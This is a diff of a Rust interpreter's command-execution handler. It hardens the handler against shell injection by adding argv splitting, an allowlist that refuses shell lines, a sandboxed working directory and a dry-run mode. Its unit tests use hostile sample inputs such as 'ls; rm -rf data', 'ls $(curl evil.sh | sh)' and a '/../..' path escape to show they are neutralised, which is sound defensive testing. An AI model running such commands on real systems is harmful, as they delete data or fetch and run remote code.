@@ -2,7 +2,8 @@ use anyhow::{Result, bail};
 use std::process::Command;
 
 use crate::kernel::config;
-use crate::kernel::{Arg, Packet, Runtime, Value};
+use crate::kernel::fs_guard::resolve;
+use crate::kernel::{Arg, Node, Packet, Runtime, Value};
 
 enum ExecMode {
     Stdout,
@@ -11,29 +12,140 @@ enum ExecMode {
     Json,
 }
 
-fn detect_mode(op: &str) -> ExecMode {
+// exec(code), exec(shell), exec(shell, json), exec(cwd:/build), ...
+fn detect_mode(op: &str) -> (ExecMode, bool, Option<String>) {
+    let mut mode = ExecMode::Stdout;
+    let mut shell = false;
+    let mut cwd = None;
     if let Some(rest) = op.strip_prefix("exec(")
-        && let Some(end) = rest.find(')') {
-            match &rest[..end].to_lowercase() {
-                s if s == "stderr" => return ExecMode::Stderr,
-                s if s == "code" => return ExecMode::Code,
-                s if s == "json" => return ExecMode::Json,
-                _ => {}
+        && let Some(end) = rest.rfind(')') {
+            for opt in rest[..end].split(',') {
+                if let Some(dir) = opt.trim().strip_prefix("cwd:") {
+                    cwd = Some(dir.trim().to_string());
+                    continue;
+                }
+                match opt.trim().to_lowercase().as_str() {
+                    "stderr" => mode = ExecMode::Stderr,
+                    "code" => mode = ExecMode::Code,
+                    "json" => mode = ExecMode::Json,
+                    "shell" => shell = true,
+                    _ => {}
+                }
             }
         }
-    ExecMode::Stdout
+    (mode, shell, cwd)
+}
+
+// What gets spawned: a program plus literal argv entries, or a line for the platform shell.
+enum Invocation {
+    Argv(Vec<String>),
+    Shell(String),
+}
+
+// [exec]{[cmd@"git"][arg@"status"][arg@branch]} -> argv built from the body; vars are
+// passed as single literal entries, never re-parsed by a shell
+fn argv_from_body(rt: &Runtime, body: &[Node]) -> Result<Vec<String>> {
+    let mut argv = Vec::new();
+    for node in body {
+        let pkt = match node {
+            Node::Packet(pkt) if pkt.ns.is_none() => pkt,
+            _ => bail!("E_BAD_ARG: exec body only takes [cmd@program] and [arg@value]"),
+        };
+        let value = match &pkt.arg {
+            Some(arg) => rt.resolve_arg(arg)?,
+            None => bail!("E_BAD_ARG: [{}] inside exec needs @value", pkt.op),
+        };
+        if value == Value::Unit {
+            bail!("E_VAR_MISSING: exec [{}] resolved to nothing", pkt.op);
+        }
+        match (pkt.op.as_str(), argv.is_empty()) {
+            ("cmd", true) => argv.push(value.to_string()),
+            ("cmd", false) => bail!("E_BAD_ARG: exec takes one [cmd], before any [arg]"),
+            ("arg", false) => argv.push(value.to_string()),
+            ("arg", true) => bail!("E_BAD_ARG: exec needs [cmd@program] before [arg]"),
+            (other, _) => bail!("E_BAD_ARG: unexpected [{other}] inside exec"),
+        }
+    }
+    if argv.is_empty() {
+        bail!("E_BAD_ARG: exec body needs [cmd@program]");
+    }
+    Ok(argv)
+}
+
+// Splits `git commit -m "two words"` into argv; quotes group, `\` escapes the next char.
+// Shell syntax (`;`, `|`, `$(...)`) stays literal text.
+fn split_argv(line: &str) -> Result<Vec<String>> {
+    let mut argv = Vec::new();
+    let mut cur = String::new();
+    let mut in_word = false;
+    let mut quote: Option<char> = None;
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some('"'), '\\') | (None, '\\') => {
+                if let Some(next) = chars.next() {
+                    cur.push(next);
+                }
+                in_word = true;
+            }
+            (Some(_), c) => cur.push(c),
+            (None, '"' | '\'') => {
+                quote = Some(c);
+                in_word = true;
+            }
+            (None, c) if c.is_whitespace() => {
+                if in_word {
+                    argv.push(std::mem::take(&mut cur));
+                    in_word = false;
+                }
+            }
+            (None, c) => {
+                cur.push(c);
+                in_word = true;
+            }
+        }
+    }
+    if quote.is_some() {
+        bail!("E_BAD_ARG: unclosed quote in exec command");
+    }
+    if in_word {
+        argv.push(cur);
+    }
+    if argv.is_empty() {
+        bail!("E_BAD_ARG: exec needs @<command>");
+    }
+    Ok(argv)
+}
+
+// The allowlist names programs, so it only vouches for argv invocations; a shell line
+// like `ls; rm -rf data` starts with an allowed word but runs anything after it.
+fn allowlisted(allowlist: &[String], invocation: &Invocation) -> bool {
+    match invocation {
+        Invocation::Argv(argv) => allowlist.iter().any(|c| *c == argv[0]),
+        Invocation::Shell(_) => false,
+    }
 }
 
 pub fn handle(rt: &mut Runtime, p: &Packet) -> Result<Value> {
     if rt.effective_root.is_none() {
         anyhow::bail!("E_NO_RED: [exec] disabled without a red.tgsk root");
     }
+    let (mode, shell, cwd) = detect_mode(&p.op);
     // Red no longer required for exec; keep per-action yellow consent elsewhere
     let cmdline = match &p.arg {
-        Some(Arg::Str(s)) => s.clone(),
-        Some(Arg::Ident(id)) => id.clone(),
-        Some(Arg::Number(n)) => n.to_string(),
-        _ => bail!("exec needs @<command>"),
+        Some(Arg::Str(s)) => Some(s.clone()),
+        Some(Arg::Ident(id)) => Some(id.clone()),
+        Some(Arg::Number(n)) => Some(n.to_string()),
+        _ => None,
+    };
+    let invocation = match (&p.body, cmdline) {
+        (Some(_), Some(_)) => bail!("E_BAD_ARG: exec takes either @<command> or an argv body, not both"),
+        (Some(_), None) if shell => bail!("E_BAD_ARG: exec(shell) needs @<command>, not an argv body"),
+        (Some(body), None) => Invocation::Argv(argv_from_body(rt, body)?),
+        (None, Some(line)) if shell => Invocation::Shell(line),
+        (None, Some(line)) => Invocation::Argv(split_argv(&line)?),
+        (None, None) => bail!("E_BAD_ARG: exec needs @<command> or {{[cmd@..][arg@..]}}"),
     };
 
     // Hard gate: require being within a yellow block unless env override
@@ -47,8 +159,6 @@ pub fn handle(rt: &mut Runtime, p: &Packet) -> Result<Value> {
         );
     }
 
-    let mode = detect_mode(&p.op);
-
     // Config-driven gating: allow_exec or allowlist can bypass yellow
     let cfg = config::load(rt.effective_root.as_deref());
     let depth = rt.get_num("__yellow_depth").unwrap_or(0.0);
@@ -56,9 +166,7 @@ pub fn handle(rt: &mut Runtime, p: &Packet) -> Result<Value> {
         if cfg.allow_exec {
             true
         } else {
-            // best-effort extract first token for allowlist match
-            let first = cmdline.split_whitespace().next().unwrap_or("");
-            cfg.exec_allowlist.iter().any(|c| c == first)
+            allowlisted(&cfg.exec_allowlist, &invocation)
         }
     };
     if depth <= 0.0 && !allowed_by_cfg {
@@ -73,22 +181,56 @@ pub fn handle(rt: &mut Runtime, p: &Packet) -> Result<Value> {
         }
     }
 
-    // Compute working directory: effective_root + cwd (if available)
-    let current_dir = rt.effective_root.as_ref().map(|root| root.join(&rt.cwd));
+    // Working directory: effective_root + cwd, or exec(cwd:...) resolved inside the red root
+    let current_dir = match (rt.effective_root.as_ref(), cwd) {
+        (Some(root), Some(raw)) => {
+            let candidate = match raw.strip_prefix('/') {
+                Some(rel) => std::path::PathBuf::from(rel),
+                None => rt.cwd.join(&raw),
+            };
+            let dir = resolve(root, &candidate)?;
+            if !dir.is_dir() {
+                bail!("E_PATH_MISSING: exec cwd '{raw}' is not a directory");
+            }
+            Some(dir)
+        }
+        (root, _) => root.map(|root| root.join(&rt.cwd)),
+    };
 
-    // Spawn via platform shell so we support pipelines and quoting
-    let output = {
-        #[cfg(target_os = "windows")]
-        let mut cmd = {
-            let mut c = Command::new("cmd");
-            c.arg("/C").arg(&cmdline);
-            c
+    // dry run: report the command and answer as if it exited 0 with no output
+    if rt.dry_run {
+        let shown = match &invocation {
+            Invocation::Argv(argv) => argv.join(" "),
+            Invocation::Shell(line) => line.clone(),
         };
-        #[cfg(not(target_os = "windows"))]
-        let mut cmd = {
-            let mut c = Command::new("sh");
-            c.arg("-c").arg(&cmdline);
-            c
+        eprintln!("[dry-run] would exec: {shown}");
+        return Ok(match mode {
+            ExecMode::Stdout | ExecMode::Stderr => Value::Str(String::new()),
+            ExecMode::Code => Value::Num(0.0),
+            ExecMode::Json => Value::Str(serde_json::json!({"code": 0, "stdout": "", "stderr": ""}).to_string()),
+        });
+    }
+
+    let output = {
+        let mut cmd = match &invocation {
+            Invocation::Argv(argv) => {
+                let mut c = Command::new(&argv[0]);
+                c.args(&argv[1..]);
+                c
+            }
+            // exec(shell): spawn via platform shell so pipelines and redirects work
+            #[cfg(target_os = "windows")]
+            Invocation::Shell(line) => {
+                let mut c = Command::new("cmd");
+                c.arg("/C").arg(line);
+                c
+            }
+            #[cfg(not(target_os = "windows"))]
+            Invocation::Shell(line) => {
+                let mut c = Command::new("sh");
+                c.arg("-c").arg(line);
+                c
+            }
         };
 
         if let Some(dir) = &current_dir {
@@ -116,3 +258,70 @@ pub fn handle(rt: &mut Runtime, p: &Packet) -> Result<Value> {
         }
     })
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+
+    #[test]
+    fn splits_quoted_words_without_a_shell() -> Result<()> {
+        assert_eq!(split_argv("git commit -m \"two words\"")?, ["git", "commit", "-m", "two words"]);
+        assert_eq!(split_argv("echo a;b $(id)")?, ["echo", "a;b", "$(id)"]);
+        assert!(split_argv("echo 'open").is_err());
+        Ok(())
+    }
+
+    #[test]
+    fn allowlist_never_vouches_for_shell_lines() -> Result<()> {
+        let allow = vec!["ls".to_string()];
+        assert!(allowlisted(&allow, &Invocation::Argv(split_argv("ls -la")?)));
+        assert!(!allowlisted(&allow, &Invocation::Argv(split_argv("rm -rf data")?)));
+        assert!(!allowlisted(&allow, &Invocation::Shell("ls; rm -rf data".into())));
+        assert!(!allowlisted(&allow, &Invocation::Shell("ls $(curl evil.sh | sh)".into())));
+        // without a shell the same text is just arguments to ls
+        assert_eq!(split_argv("ls; rm -rf data")?, ["ls;", "rm", "-rf", "data"]);
+        Ok(())
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn argv_body_passes_vars_literally() {
+        let base = std::env::temp_dir().join(format!("tgsk_exec_argv_{}", std::process::id()));
+        let _ = fs::remove_dir_all(&base);
+        fs::create_dir_all(&base).unwrap();
+        fs::write(base.join("red.tgsk"), "").unwrap();
+        let mut rt = Runtime::from_entry(&base.join("main.tgsk")).unwrap();
+        rt.set_num("__yellow_depth", 1.0).unwrap();
+        rt.set_var("payload", Value::Str("x; echo pwned".into())).unwrap();
+
+        let ast = crate::router::parse("[exec]{[cmd@\"printf\"][arg@\"%s|%s\"][arg@payload][arg@\"$HOME\"]}").unwrap();
+        let out = rt.eval(&ast).unwrap();
+        // a shell would have split on `;` and expanded $HOME
+        assert_eq!(out, Value::Str("x; echo pwned|$HOME".into()));
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn cwd_option_runs_inside_the_sandbox() {
+        let base = std::env::temp_dir().join(format!("tgsk_exec_cwd_{}", std::process::id()));
+        let _ = fs::remove_dir_all(&base);
+        fs::create_dir_all(base.join("build")).unwrap();
+        fs::write(base.join("red.tgsk"), "").unwrap();
+        let mut rt = Runtime::from_entry(&base.join("main.tgsk")).unwrap();
+        rt.set_num("__yellow_depth", 1.0).unwrap();
+
+        let ast = crate::router::parse("[exec(cwd:/build)]{[cmd@\"pwd\"]}").unwrap();
+        let out = rt.eval(&ast).unwrap().to_string();
+        let expected = fs::canonicalize(base.join("build")).unwrap();
+        assert_eq!(fs::canonicalize(out.trim()).unwrap(), expected);
+
+        let ast = crate::router::parse("[exec(cwd:/../..)]{[cmd@\"pwd\"]}").unwrap();
+        let err = rt.eval(&ast).unwrap_err();
+        assert!(err.to_string().contains("E_BOUNDARY_RED"), "{err}");
+
+        fs::remove_dir_all(base).unwrap();
+    }
+}